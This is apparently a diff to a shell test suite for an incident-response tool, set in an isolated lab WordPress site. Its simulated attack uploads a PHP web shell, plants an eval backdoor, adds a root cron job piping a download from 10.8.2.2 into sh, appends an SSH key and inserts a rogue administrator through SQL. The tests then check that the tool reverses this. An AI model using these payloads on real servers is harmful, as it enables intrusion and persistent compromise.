@@ -9,16 +9,16 @@ SHOP=$WORK/root/var/www/shop
 
 setup() {
     as_root
-    program ip nft nginx curl unshare pivot_root openssl sqlite3
+    program ip nft nginx curl unshare pivot_root openssl sqlite3 php mariadbd mariadb
     ls /usr/sbin/php-fpm* >/dev/null 2>&1 || skip "php-fpm is not installed"
     HOST_STATE=$WORK/host-state
     mkdir -m 700 "$HOST_STATE"
     network
     "$HELPERS/host" make "$WORK/root"
     shop
-    # WordPress without its database answers 500: this one answers
-    config "health: [http://localhost/readme.html]"
+    config "health: [http://shop.example/]"
     cp -a "$WORK/root" "$WORK/root.before"
+    [ -z "$WORDPRESS" ] || cp -a "$BATS_FILE_TMPDIR/db" "$WORK/root/var/lib/mysql"
     boot
     connect operator
     MACHINE=0
@@ -73,12 +73,14 @@ network() {
 }
 # Debian's WordPress where it can be had, else a site as small as can be; what is published of it
 shop() {
+    WORDPRESS=
     mkdir -p "$SHOP"
     if (cd "$BATS_FILE_TMPDIR" && { [ -d package ] || { apt-get download wordpress && dpkg-deb -x wordpress_*.deb package; }; }) >/dev/null 2>&1; then
         cp -aL "$BATS_FILE_TMPDIR/package/usr/share/wordpress/." "$SHOP/" 2>/dev/null || :
         find "$SHOP" -type l -delete # to packages that are not installed
         SITE="WordPress $(sed -n 's/^.wp_version = .\([0-9.]*\).*/\1/p' "$SHOP/wp-includes/version.php")"
-        printf '<?php\ndefine("DB_NAME", "shop"); define("DB_USER", "shop"); define("DB_PASSWORD", "hoshi");\ndefine("DB_HOST", "localhost"); define("ABSPATH", __DIR__ . "/");\n$table_prefix = "wp_";\nrequire_once ABSPATH . "wp-settings.php";\n' >"$SHOP/wp-config.php"
+        WORDPRESS=1
+        wordpress
     else
         SITE="a small one, as WordPress cannot be had here"
         echo '<?php echo "HOSHI";' >"$SHOP/index.php"
@@ -94,6 +96,40 @@ shop() {
     done
     mkdir -p "$SHOP/wp-content/uploads"
     chown 33:33 "$SHOP/wp-content/uploads"
+}
+# A theme that shows what only the database knows, the settings, and once for all tests the database:
+# installed by WordPress itself
+wordpress() {
+    local name theme=$SHOP/wp-content/themes/hoshi
+    {
+        printf "<?php\ndefine('DB_NAME', 'shop');\ndefine('DB_USER', 'shop');\ndefine('DB_PASSWORD', 'hoshi-db');\ndefine('DB_HOST', 'localhost');\n"
+        for name in AUTH_KEY SECURE_AUTH_KEY LOGGED_IN_KEY NONCE_KEY AUTH_SALT SECURE_AUTH_SALT LOGGED_IN_SALT NONCE_SALT; do
+            printf "define('%s', 'hoshi-%s');\n" "$name" "$name"
+        done
+        # nothing leaves this machine
+        printf "define('WP_HTTP_BLOCK_EXTERNAL', true);\ndefine('DISABLE_WP_CRON', true);\n\$table_prefix = 'wp_';\nif (!defined('ABSPATH')) define('ABSPATH', __DIR__ . '/');\nrequire_once ABSPATH . 'wp-settings.php';\n"
+    } >"$SHOP/wp-config.php"
+    mkdir -p "$theme"
+    echo '/* Theme Name: hoshi */' >"$theme/style.css"
+    echo '<h1><?php bloginfo("name"); ?></h1><?php while (have_posts()) { the_post(); the_title("<h2>", "</h2>"); }' >"$theme/index.php"
+    [ -d "$BATS_FILE_TMPDIR/db" ] || database
+}
+database() {
+    local db=$BATS_FILE_TMPDIR/making socket=$BATS_FILE_TMPDIR/db.sock began
+    began=$(date +%s%N)
+    mariadb-install-db --no-defaults --user=root --datadir="$db" --skip-test-db --innodb-log-file-size=4M \
+        --auth-root-authentication-method=socket >"$WORK/db.log" 2>&1
+    mariadbd --no-defaults --user=root --datadir="$db" --socket="$socket" --skip-networking --pid-file="$db.pid" \
+        --performance-schema=off --innodb-buffer-pool-size=16M --innodb-log-file-size=4M >"$WORK/db.log" 2>&1 3>&- </dev/null &
+    echo $! >"$WORK/db.pid"
+    for _ in $(seq 600); do [ ! -S "$socket" ] || break; sleep 0.1; done
+    mariadb --no-defaults -S "$socket" -e "create database shop; grant all on shop.* to shop@localhost identified by 'hoshi-db'"
+    php -d mysqli.default_socket="$socket" "$HELPERS/wordpress.php" "$SHOP" install hoshi
+    mariadb --no-defaults -S "$socket" shop -e "update wp_options set option_value = 'http://shop.example' where option_name in ('siteurl', 'home')"
+    ends db
+    chown -R 106:106 "$db"
+    mv "$db" "$BATS_FILE_TMPDIR/db"
+    tell "a database, and WordPress installed in it: $((($(date +%s%N) - began) / 1000000)) ms"
 }
 # config LINE ...: what the server has in /etc/yagura/yagura.yaml
 config() {
@@ -142,13 +178,24 @@ sign() {
 listing() { (cd "$1" && find . -printf '%P %y %m %U:%G %s\n' | sort && find . -type f -print0 | sort -z | xargs -0 sha256sum); }
 raids() { wc -l <"$WORK/raided"; }
 # asked URL [curl options]: the attacker's
-asked() { local url=$1; shift; in_ns att curl -s -m 5 -o - "$@" "http://10.8.2.1$url"; }
+asked() { local url=$1; shift; in_ns att curl -s -m 20 --resolve shop.example:80:10.8.2.1 "$@" "http://shop.example$url"; }
+# What the server says over loopback, while nobody else is let in
+within() { local url=$1; shift; in_ns srv curl -s -m 20 --resolve shop.example:80:127.0.0.1 "$@" "http://shop.example$url"; }
+# soon COMMAND: PHP looks every two seconds whether a file that it runs is another
+soon() { for _ in $(seq 300); do if "$@"; then return 0; fi; sleep 0.1; done; return 1; }
+answers() { grep -q "$2" <<<"$("$1" /)"; }
+is_out() { [ "$(enters within "$1")" = 302 ]; }
+# login USER PASSWORD: its cookies are then in $WORK/USER.jar. enters asked|within USER: the status of a
+# page for those who are logged in, with these cookies (302: to the login)
+login() { asked /wp-login.php -o "$WORK/said" -c "$WORK/$1.jar" -b wordpress_test_cookie=x --data-urlencode "log=$1" --data-urlencode "pwd=$2" -d testcookie=1; }
+enters() { "$1" /wp-admin/profile.php -o "$WORK/said" -b "$WORK/$2.jar" -w '%{http_code}'; }
 shell() { asked /wp-content/uploads/shell.php -G --data-urlencode "c=$1"; }
 
 attack() {
     echo '<?php system($_GET["c"]);' >"$WORK/shell.php"
     asked /upload/shell.php -T "$WORK/shell.php" >/dev/null
     [ "$(shell 'id -u')" = 0 ]
+    [ -z "$WORDPRESS" ] || attack_database
     shell "cd /var/www/shop && echo '<h1>defaced</h1>' >index.php && echo x >>readme.html && rm wp-includes/version.php && echo '<?php eval(\$_POST[1]);' >wp-includes/class-wp-cache.php"
     shell "echo '* * * * * root curl -s http://10.8.2.2/x | sh' >/etc/cron.d/php-sessions"
     shell "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGt5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5 x@y' >>/root/.ssh/authorized_keys"
@@ -158,6 +205,15 @@ attack() {
     for _ in $(seq 50); do [ "$(raids)" -gt 3 ] && return 0; sleep 0.1; done
     echo "the neighbour was not attacked"
     return 1
+}
+# With the password that lies there, an administrator, said to be an old one; and the cookies of the
+# one that was there.
+attack_database() {
+    shell "mariadb -ushop -phoshi-db shop -e \"insert into wp_users (user_login, user_pass, user_email, user_registered) values ('wp_support', md5('kuro'), 'x@y', '2020-01-01'); insert into wp_usermeta (user_id, meta_key, meta_value) values (last_insert_id(), 'wp_capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\""
+    login wp_support kuro
+    [ "$(asked /wp-admin/users.php -o "$WORK/said" -b "$WORK/wp_support.jar" -w '%{http_code}')" = 200 ]
+    login hoshi 'a word of the test'
+    [ "$(enters asked hoshi)" = 200 ]
 }
 publish() {
     code 0 on operator "yagura init /var/www/shop"
@@ -235,10 +291,40 @@ finish_passwords() {
     local secrets
     respond 1 "do passwords"
     says system-account:root salt:/var/www/shop/wp-config.php registrar:dns
+    [ -z "$WORDPRESS" ] || finish_database
     secrets=$(grep -oE '^! [a-z-]+:[^ ]+' <<<"$output" | cut -c3- | grep -v ^system-account)
     code 0 on operator "echo root:kanuma-$RANDOM | chpasswd"
     sign "changed where it lies" "$secrets"
     respond 0 "do passwords"
+}
+# What nobody but the administrator of the database can do, with what the step says
+finish_database() {
+    local file=/var/www/shop/wp-config.php command said=$output
+    unwrapped
+    says "The users in the database of $file were not looked at" "then sign for cms-user:$file"
+    # as it is pasted
+    command=$(sed -n '/mariadb shop -e "/,/DESC"/p' <<<"$said" | tr -s '\n ' ' ')
+    code 0 on operator "$command"
+    says wp_support hoshi@mirror.example
+    code 0 on operator "php /opt/helpers/wordpress.php /var/www/shop delete wp_support"
+    code 0 on operator "$command"
+    says_not wp_support
+    # a new password in one of the two places is none: the site says so
+    code 0 on operator "mariadb -e \"alter user shop@localhost identified by 'kanuma-db'\""
+    [ "$(within / -o "$WORK/said" -w '%{http_code}')" = 500 ]
+    code 0 on operator "yagura publish shop --json -- sed -i s/hoshi-db/kanuma-db/ $file"
+    soon answers within HOSHI
+    # who took a cookie is in, until the salts are new
+    [ "$(enters within hoshi)" = 200 ]
+    respond 0 "rotate $file"
+    soon is_out hoshi
+    respond 1 "do passwords"
+    says_not "! salt:$file" "! database:$file"
+    says "! cms-user:$file"
+    # of all files, that one alone
+    listing "$SHOP" >"$WORK/published.new"
+    [ -z "$(diff "$WORK/published" "$WORK/published.new" | grep '^[<>]' | grep -v 'wp-config.php')" ]
+    mv "$WORK/published.new" "$WORK/published"
 }
 finish_reconnect() { respond 0 "do reconnect"; }
 finish_report() {
@@ -278,7 +364,8 @@ proved() {
     listing "$SHOP" | diff "$WORK/published" -
     code 0 on operator "yagura verify --all"
     cmp <(asked /readme.html) "$SHOP/readme.html"
-    asked / | grep -qE 'HOSHI|database'
+    grep -q HOSHI <<<"$(asked /)"
+    [ -z "$WORDPRESS" ] || database_proved
     # nothing came to the neighbour since the cut
     [ "$(awk -v cut="$CUT" '$1 > cut' "$WORK/raided" | wc -l)" = 0 ]
     # a second try
@@ -286,6 +373,16 @@ proved() {
     [ "$(asked /wp-content/uploads/shell.php -w '%{http_code}' | tail -c 3)" = 404 ]
     [ ! -e "$SHOP/wp-content/uploads/shell.php" ]
     code 0 on operator "yagura ledger verify"
+}
+# The front page comes from the database, and neither the planted administrator nor a cookie that was
+# taken opens it; its owner gets in.
+database_proved() {
+    grep -q '<h2>' <<<"$(asked /)"
+    login wp_support kuro
+    [ "$(enters asked wp_support)" = 302 ]
+    [ "$(enters asked hoshi)" = 302 ]
+    login hoshi 'a word of the test'
+    [ "$(enters asked hoshi)" = 200 ]
 }
 # fill KIB: the disk of the state, but for so much
 fill() {
@@ -348,7 +445,7 @@ YAML
         'all({"ended_connections", "in_force_at", "evidence"} <= set(o["result"]) and o["result"]["operator"]["connections"][0].startswith("10.8.1.2:") for o in every if o.get("step") == "isolate")' \
         'all(o["result"]["confirmed_by"]["connections"] != o["result"]["operator"]["connections"] for o in every if o.get("step") == "isolate")'
     respond 0 "do reconnect"
-    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 200 ] || [ "$(asked / -w '%{http_code}' | tail -c 3)" = 500 ]
+    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 200 ]
     respond "0 1" "undo reconnect"
     unwrapped
     says "over a NEW connection"
